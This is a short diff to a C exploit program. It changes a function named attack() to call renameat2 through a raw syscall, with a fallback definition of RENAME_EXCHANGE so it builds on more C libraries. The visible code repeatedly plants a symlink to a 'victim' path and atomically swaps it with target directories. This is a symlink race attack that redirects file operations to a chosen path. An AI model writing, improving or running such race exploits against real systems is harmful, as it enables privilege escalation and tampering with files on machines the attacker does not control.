@@ -10,7 +10,13 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <unistd.h>
+
+/* Not every C library has it. */
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
 
 static void die(const char *what) {
     perror(what);
@@ -68,7 +74,7 @@ static void attack(const char *victim, int count, char **targets) {
         struct stat found;
         if (!fstatat(in, name, &found, AT_SYMLINK_NOFOLLOW) && S_ISDIR(found.st_mode)
                 && (!symlinkat(victim, in, link) || errno == EEXIST)
-                && !renameat2(in, link, in, name, RENAME_EXCHANGE)) {
+                && !syscall(SYS_renameat2, in, link, in, name, RENAME_EXCHANGE)) {
             swaps++;
         }
         close(in);
